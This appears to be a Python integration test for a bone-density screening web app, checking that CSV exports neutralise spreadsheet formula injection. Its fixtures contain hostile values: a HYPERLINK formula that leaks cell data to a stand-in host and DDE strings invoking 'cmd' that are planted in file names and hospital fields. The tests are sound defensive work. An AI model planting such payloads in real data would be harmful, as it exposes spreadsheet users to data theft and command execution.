"""Every CSV the web app serves neutralises cells a spreadsheet would run as formulas (issue 12, item 5)."""

from __future__ import annotations

import csv
import io

import pytest

from screening.accounts import add_hospital
from screening.db.models import Batch, DailyHospitalSummary, Image, Quality
from screening.db.session import session_scope
from tests.integration.web.world import DAY, World, login

pytestmark = pytest.mark.integration
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO("\n".join(text.splitlines()[1:]))))


def test_results_csv_neutralises_a_hostile_filename(client, world: World, world_db: str) -> None:
    with session_scope(world_db) as session:
        batch = session.get(Batch, world.batches["NORTH"])
        session.add(Image(batch_id=batch.id, hospital_id=batch.hospital_id, filename=FORMULA,
                          quality=Quality.REJECTED, quality_reason="-1+cmd|' /C calc'!A0"))
    response = client.get(f"/api/v1/batches/{world.batches['NORTH']}/results?format=csv",
                          headers=world.auth("staff_north"))
    rows = {row[0]: row for row in _rows(response.get_data(as_text=True))}
    assert "'" + FORMULA in rows and FORMULA not in rows
    assert rows["'" + FORMULA][2] == "'-1+cmd|' /C calc'!A0"
    assert rows["hand-1.png"][5:8] == ["0.1000", "0.2000", "0.7000"]  # numbers stay numbers


def test_overview_csv_neutralises_hostile_hospital_district_and_region(client, world: World, world_db: str) -> None:
    with session_scope(world_db) as session:
        hospital = add_hospital(session, "EVIL", "@SUM(1+1)*cmd|' /C calc'!A0", "+Dist", "Coast")
        session.flush()
        session.add(DailyHospitalSummary(hospital_id=hospital.id, day=DAY, screened=3, normal=1, osteopenia=1,
                                         osteoporosis=1, referred=1, rejected=0, files=3))
    login(client, world.emails["official_coast"])
    text = client.get("/overview.csv?from=2024-03-01&to=2024-03-02").get_data(as_text=True)
    row = next(r for r in _rows(text) if r[0] == "EVIL")
    assert row[1:4] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'+Dist", "Coast"]
    assert row[4:8] == ["1", "3", "0", "3"]
    district = client.get("/overview.csv?level=district&from=2024-03-01&to=2024-03-02").get_data(as_text=True)
    assert any(r[0] == "'+Dist" for r in _rows(district))
